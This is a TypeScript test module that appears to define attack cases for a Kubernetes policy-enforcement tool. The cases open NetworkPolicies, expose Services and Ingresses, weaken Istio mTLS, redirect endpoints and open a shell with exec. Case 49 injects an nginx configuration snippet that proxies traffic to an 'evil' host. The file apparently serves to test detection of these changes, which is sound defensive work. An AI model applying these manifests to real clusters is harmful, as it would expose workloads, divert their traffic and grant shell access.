/** What opens the pods, leads to them, or takes their traffic. */

import { isForbidden, type KubeObject, type Resource } from "kopf-ts";
import {
  CALICO_NETWORK_POLICY,
  CILIUM_NETWORK_POLICY,
  ENDPOINT_SLICE,
  HTTP_ROUTE,
  INGRESS,
  NETWORK_POLICY,
  POD_DISRUPTION_BUDGET,
  SERVICE,
} from "../../../src/kubernetes/kinds.ts";
import type { Attack, DriftCase } from "../case.ts";
import { creating, patching } from "../patches.ts";
import { type Stage, VICTIM } from "../stage.ts";

const OURS = { "palisade.dev/workload": VICTIM };

const service =
  (name: string, spec: object) =>
  ({ namespace }: Stage): KubeObject => ({
    apiVersion: "v1",
    kind: "Service",
    metadata: { name, namespace },
    spec: { selector: OURS, ports: [{ port: 80, targetPort: 8080 }], ...spec },
  });

const ingress =
  (annotations: Readonly<Record<string, string>>) =>
  ({ namespace }: Stage): KubeObject => ({
    apiVersion: "networking.k8s.io/v1",
    kind: "Ingress",
    metadata: { name: "theirs", namespace, annotations },
    spec: {
      rules: [
        {
          host: "*.example.com",
          http: {
            paths: [{ path: "/", pathType: "Prefix", backend: { service: { name: VICTIM, port: { number: 8080 } } } }],
          },
        },
      ],
    },
  });

/** Reaching into a pod through the API server leaves nothing behind: it is refused, or it was done. What the API server itself then lacks, a kubelet here, is no refusal. */
export const connecting = (title: string, resource: string, query: string, user: Attack["user"] = "alice"): Attack => ({
  title,
  user,
  act: async (stage, client) => {
    const [pod] = await stage.pods();
    const path = `/api/v1/namespaces/${stage.namespace}/pods/${pod?.metadata.name}/${resource}${query}`;
    try {
      await client.transport.request({ method: "POST", path });
    } catch (error) {
      if (isForbidden(error)) throw error;
    }
  },
});

const PEER_AUTHENTICATION: Resource = {
  group: "security.istio.io",
  version: "v1",
  kind: "PeerAuthentication",
  plural: "peerauthentications",
  namespaced: true,
};

export const NETWORK_CASES: readonly DriftCase[] = [
  {
    number: 40,
    title: "a second NetworkPolicy, which only adds",
    who: "E",
    attacks: [
      creating("allows everything", NETWORK_POLICY, ({ namespace }) => ({
        apiVersion: "networking.k8s.io/v1",
        kind: "NetworkPolicy",
        metadata: { name: "open", namespace },
        spec: { podSelector: {}, policyTypes: ["Ingress", "Egress"], ingress: [{}], egress: [{}] },
      })),
      creating("allows egress of the workload's pods", NETWORK_POLICY, ({ namespace }) => ({
        apiVersion: "networking.k8s.io/v1",
        kind: "NetworkPolicy",
        metadata: { name: "open", namespace },
        spec: { podSelector: { matchLabels: OURS }, policyTypes: ["Egress"], egress: [{}] },
      })),
    ],
  },
  {
    number: 41,
    title: "the workload's own policies changed",
    who: "E",
    attacks: [
      patching("opens the workload's policy", NETWORK_POLICY, VICTIM, { spec: { ingress: [{}] } }, '"ingress":[{}]'),
      patching(
        "narrows the default deny to other pods",
        NETWORK_POLICY,
        "palisade-default-deny",
        { spec: { podSelector: { matchLabels: { nobody: "here" } } } },
        '"nobody"',
      ),
      patching(
        "takes a direction out",
        NETWORK_POLICY,
        VICTIM,
        { spec: { policyTypes: ["Ingress"] } },
        '"policyTypes":["Ingress"]',
      ),
    ],
  },
  {
    number: 42,
    title: "a policy of the network plugin that allows",
    who: "CRD",
    attacks: [
      creating(
        "allows everything to Cilium",
        CILIUM_NETWORK_POLICY,
        ({ namespace }) => ({
          apiVersion: "cilium.io/v2",
          kind: "CiliumNetworkPolicy",
          metadata: { name: "open", namespace },
          spec: { endpointSelector: {}, ingress: [{ fromEntities: ["all"] }], egress: [{ toEntities: ["all"] }] },
        }),
        "mallory",
      ),
      creating(
        "allows everything to Calico",
        CALICO_NETWORK_POLICY,
        ({ namespace }) => ({
          apiVersion: "projectcalico.org/v3",
          kind: "NetworkPolicy",
          metadata: { name: "open", namespace },
          spec: {
            selector: "all()",
            types: ["Ingress", "Egress"],
            ingress: [{ action: "Allow" }],
            egress: [{ action: "Allow" }],
          },
        }),
        "mallory",
      ),
    ],
  },
  {
    number: 43,
    title: "the mesh weakened",
    who: "CRD",
    attacks: [
      creating(
        "lets plain text in",
        PEER_AUTHENTICATION,
        ({ namespace }) => ({
          apiVersion: "security.istio.io/v1",
          kind: "PeerAuthentication",
          metadata: { name: "plain", namespace },
          spec: { mtls: { mode: "PERMISSIVE" } },
        }),
        "mallory",
      ),
    ],
  },
  {
    number: 44,
    title: "a Service that leads out of the cluster",
    who: "E",
    attacks: [
      creating("makes a NodePort", SERVICE, service("theirs", { type: "NodePort" })),
      creating("makes a load balancer", SERVICE, service("theirs", { type: "LoadBalancer" })),
      patching(
        "makes the workload's Service a NodePort",
        SERVICE,
        VICTIM,
        { spec: { type: "NodePort" } },
        '"type":"NodePort"',
      ),
    ],
  },
  {
    number: 45,
    title: "external addresses on a Service",
    who: "E",
    attacks: [
      creating("takes an address over", SERVICE, service("theirs", { externalIPs: ["203.0.113.9"] })),
      patching(
        "gives the workload's Service an address",
        SERVICE,
        VICTIM,
        { spec: { externalIPs: ["203.0.113.9"] } },
        "203.0.113.9",
      ),
    ],
  },
  {
    number: 46,
    title: "a second Service to another port",
    who: "E",
    attacks: [
      creating(
        "exposes a debug port",
        SERVICE,
        service("debug", { publishNotReadyAddresses: true, ports: [{ port: 6_060, targetPort: 6_060 }] }),
      ),
    ],
  },
  {
    number: 47,
    title: "the workload's Service moved to other pods",
    who: "E",
    attacks: [
      patching(
        "moves the Service to other pods",
        SERVICE,
        VICTIM,
        { spec: { selector: { "palisade.dev/workload": "evil" } } },
        '"evil"',
      ),
    ],
  },
  {
    number: 48,
    title: "an Ingress, a route or a name that leads to the Service",
    who: "E",
    attacks: [
      creating("exposes it by an Ingress without TLS", INGRESS, ingress({})),
      creating(
        "exposes it by an HTTPRoute",
        HTTP_ROUTE,
        ({ namespace }) => ({
          apiVersion: "gateway.networking.k8s.io/v1",
          kind: "HTTPRoute",
          metadata: { name: "theirs", namespace },
          spec: { hostnames: ["*.example.com"], rules: [{ backendRefs: [{ name: VICTIM, port: 8080 }] }] },
        }),
        "mallory",
      ),
      creating("gives it another name", SERVICE, ({ namespace }) => ({
        apiVersion: "v1",
        kind: "Service",
        metadata: { name: "alias", namespace },
        spec: { type: "ExternalName", externalName: `${VICTIM}.${namespace}.svc.cluster.local` },
      })),
    ],
  },
  {
    number: 49,
    title: "annotations that configure the gateway",
    who: "E",
    attacks: [
      creating(
        "puts a snippet into the gateway",
        INGRESS,
        ingress({ "nginx.ingress.kubernetes.io/configuration-snippet": "proxy_pass http://evil;" }),
      ),
    ],
  },
  {
    number: 50,
    title: "endpoints written by hand",
    who: "X",
    attacks: [
      creating(
        "sends the Service's traffic elsewhere",
        ENDPOINT_SLICE,
        ({ namespace }) => ({
          apiVersion: "discovery.k8s.io/v1",
          kind: "EndpointSlice",
          metadata: { name: "web-theirs", namespace, labels: { "kubernetes.io/service-name": VICTIM } },
          addressType: "IPv4",
          endpoints: [{ addresses: ["203.0.113.9"], conditions: { ready: true } }],
          ports: [{ name: "http", port: 8080, protocol: "TCP" }],
        }),
        "mallory",
      ),
    ],
  },
  {
    number: 52,
    title: "port-forward and proxy, which no NetworkPolicy sees",
    who: "E",
    attacks: [connecting("forwards a port", "portforward", ""), connecting("goes through the proxy", "proxy/", "")],
  },
  {
    number: 66,
    title: "a shell in the container",
    who: "E",
    attacks: [
      connecting("runs a command", "exec", "?command=sh&container=web&stdout=true"),
      connecting("attaches to the container", "attach", "?container=web&stdout=true"),
    ],
  },
];

export const FOREIGN_BUDGET: DriftCase = {
  number: 29,
  title: "a disruption budget of somebody else",
  who: "E",
  attacks: [
    creating(
      "lets no pod go",
      POD_DISRUPTION_BUDGET,
      ({ namespace }) => ({
        apiVersion: "policy/v1",
        kind: "PodDisruptionBudget",
        metadata: { name: "theirs", namespace },
        spec: { maxUnavailable: 0, selector: { matchLabels: OURS } },
      }),
      "bob",
    ),
  ],
};
